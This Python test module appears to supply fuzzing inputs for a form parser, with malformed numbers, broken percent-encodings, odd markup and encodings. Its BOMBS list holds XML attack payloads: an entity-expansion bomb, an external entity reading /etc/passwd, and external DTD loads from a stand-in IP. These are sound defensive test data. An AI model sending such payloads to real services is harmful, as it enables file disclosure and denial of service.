"""Values and fragments that break a form."""

from typing import Final

from tests.fuzz.bodies import LENGTHS

AMOUNTS: Final[list[object]] = [
    *("1.25", "0", "-1", "1e3", "1E-400", "NaN", "Infinity", "+1", " 1", "1.", ".5", "٣", "1_0"),
    *("9" * 20, "9" * 21, "0." + "1" * 18, "0." + "1" * 19, "0x10", "1,25"),
    *(1.25, 0, -1, 10**19, 10**20, 10**400, 1e300, -0.0, True, None, [], {}),
]
NUMBERS: Final = [
    *("1e999999999", "1e-999999999", "1E9999999999999999999", "-0", "-0.0", "0e0", "1e5", "1.0"),
    *("9" * 4300, "9" * 4301, "0." + "9" * 9000, "1e" + "9" * 5000, "00", "1.", "NaN", "-"),
]
LONGER: Final = [*LENGTHS, 254, 255, 256]
JUNK: Final = [
    *(b"%", b"%%", b"%0", b"%zz", b"%c0%80", b"%ed%a0%80", b"%f4%90%80%80", b"%00", b"\x00"),
    *(b";", b"&", b"&&", b"=", b"==", b"+", b"%20", b"%2B", b"%EF%BB%BF", b"\xef\xbb\xbf", b"\xff"),
    *(b"&x", b"&=x", b"&x=;y=1", b"#", b"?", b"%u0041", b"\xc3\xbc", b"%C3%BC", b"\r\n", b"[]"),
]
MARKUP: Final = [
    *(
        "<!-- x -->",
        "<?pi x?>",
        "<![CDATA[x]]>",
        "&amp;",
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&lol;",
    ),
    *("<x/>", '<x a="1" a="2"/>', '<x xmlns="urn:x"/>', "<x:y/>", "</x>", "<", "&", "]]>", "\x00"),
    *("&#1;", "\x0b", "\ufffe", "\u2028", "\x85", "&#13;", "<x>", "\ufeff", "<!DOCTYPE x>"),
]
BOMBS: Final = [
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>',
    '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    f'<!DOCTYPE x [<!ENTITY a "{"a" * 12000}">]>',
    '<!DOCTYPE x [<!ENTITY a "&a;">]>',
    '<!DOCTYPE x [<!ATTLIST cancelReserve a CDATA "x">]>',
]
ENCODINGS: Final = [
    *("utf-16", "utf-16-le", "utf-32", "utf-7", "utf-8-sig", "cp1252", "latin-1", "cp037", "utf-8"),
]
DECLARED: Final = ["utf-8", "UTF-16", "latin-1", "utf-7", "cp037", "rot13", "idna", "x", ""]
